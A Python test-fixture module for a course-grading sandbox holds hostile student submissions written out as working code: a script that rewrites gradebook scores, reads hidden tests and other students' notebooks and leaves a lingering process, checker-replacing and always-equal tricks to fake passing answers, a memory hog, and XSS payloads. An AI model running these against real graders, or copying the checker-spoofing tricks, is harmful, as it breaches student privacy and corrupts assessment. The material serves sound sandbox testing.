"""Answer cells that a student with bad intent could hand in (used by tests/test_assignment.py).

Each is real code that works when nothing stops it: ``ESCAPE`` rewrites a gradebook and prints
the hidden tests and other students' work it finds when run as a plain process (the test runs
it so, on a copy of the course, to show that it would), and ``SURVIVOR`` stays alive. In the
sandbox each of them must come to nothing.
"""

from __future__ import annotations

import ast
from pathlib import Path
from string import Template

# Walks up from its folder and searches the file system for the course's gradebook, notebooks
# with hidden tests and other students' submissions; sets every manual score to the maximum,
# prints what it read, appends to utils.py, connects to a listener on the grader's loopback and
# starts a process that outlives the kernel. Every step reports and goes on.
ESCAPE = Template("""import os, socket, sqlite3, subprocess, time
from pathlib import Path

start, seen = time.monotonic(), set()
for top in $places:
    for folder, subfolders, files in os.walk(top):
        depth = len(Path(folder).relative_to(top).parts)
        subfolders[:] = [] if depth >= 4 or time.monotonic() - start > 10 else [
            s for s in subfolders if s not in ("proc", "sys", "dev", "usr", ".venv", "site-packages")]
        for name in files:
            path = Path(folder, name)
            if path in seen:
                continue
            seen.add(path)
            try:
                if name == "gradebook.db":
                    db = sqlite3.connect(path)
                    db.execute("UPDATE grade SET manual_score = 1000")
                    db.commit()
                    print("ESCAPED: rewrote", path)
                elif name.endswith(".ipynb") and path.resolve().parent != Path.cwd().resolve():
                    print("ESCAPED: read", path, path.read_text())
            except Exception as error:
                print("blocked:", path, type(error).__name__)
print("searched", len(seen), "files")
try:
    with open("utils.py", "a") as helper:
        helper.write("\\ncheck = lambda *args, **kwargs: print('ok')\\n")
    print("ESCAPED: appended to utils.py")
except OSError as error:
    print("utils.py blocked:", type(error).__name__)
try:
    socket.create_connection(("127.0.0.1", $port), timeout=3).sendall(b"stolen")
    print("ESCAPED: connected to the grader's loopback")
except OSError as error:
    print("network blocked:", type(error).__name__)
subprocess.Popen(["sh", "-c", "sleep 900; : $token"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""")

# Allocates 6 GiB: more than a kernel may (4 GiB).
MEMORY_HOG = "import numpy as np\n\nhog = np.ones(6 * 2**30 // 8)\n"

# Replaces the checker, so that a visible check prints its tick whatever the answer, and the
# hidden block's call publishes nothing.
FAKE_CHECK = """import checks

checks.check = lambda *args, **kwargs: print("\\N{CHECK MARK} correct")
checks.grade = lambda *args, **kwargs: None
"""

# An int whose == always says True (and != always False).
ALWAYS_EQUAL = """class AlwaysEqual(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

"""


def defined_names(solution: str) -> tuple[list[str], list[str]]:
    """(functions, values) that a solution defines at its top level."""
    functions, values = [], []
    for node in ast.parse(solution).body:
        if isinstance(node, ast.FunctionDef):
            functions.append(node.name)
        elif isinstance(node, ast.Assign | ast.AnnAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                elements = target.elts if isinstance(target, ast.Tuple) else [target]
                values += [e.id for e in elements if isinstance(e, ast.Name)]
    return functions, values


def answering_with(solution: str, value: str) -> str:
    """Code that defines what ``solution`` defines, every value (and function result) ``value``."""
    functions, values = defined_names(solution)
    lines = [f"def {name}(*args, **kwargs):\n    return {value}\n" for name in functions]
    lines += [f"{name} = {value}" for name in values]
    return "\n".join(lines) + "\n"


# Where ESCAPE searches: every folder above its own, its home and /tmp.
EVERYWHERE = '[*Path.cwd().parents, Path.home(), Path("/tmp")]'


def escape(port: int, token: str, places: str = EVERYWHERE) -> str:
    """ESCAPE, connecting to ``port``, its process marked with ``token``, searching ``places``."""
    return ESCAPE.substitute(port=port, token=token, places=places)


def processes_with(token: str) -> list[int]:
    """The process ids whose command line holds ``token`` (a process an attack left running)."""
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            if token.encode() in (proc / "cmdline").read_bytes():
                found.append(int(proc.name))
        except OSError:
            pass
    return found


# Marks what planted active content would record if it ran in the browser.
PAYLOAD = "window.pwned"

# An answer-cell prefix whose outputs are active content of every kind.
ACTIVE_OUTPUTS = """from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<b>bold survives</b><script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>"))
display(Javascript("window.pwned = 3"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 4"></svg>'))
display(Markdown("<img src=x onerror='window.pwned = 5'>"))
"""

# A Markdown cell of the student's own with raw HTML.
ACTIVE_MARKDOWN = "<script>window.pwned = 6</script>\n\n<img src=x onerror='window.pwned = 7'>"
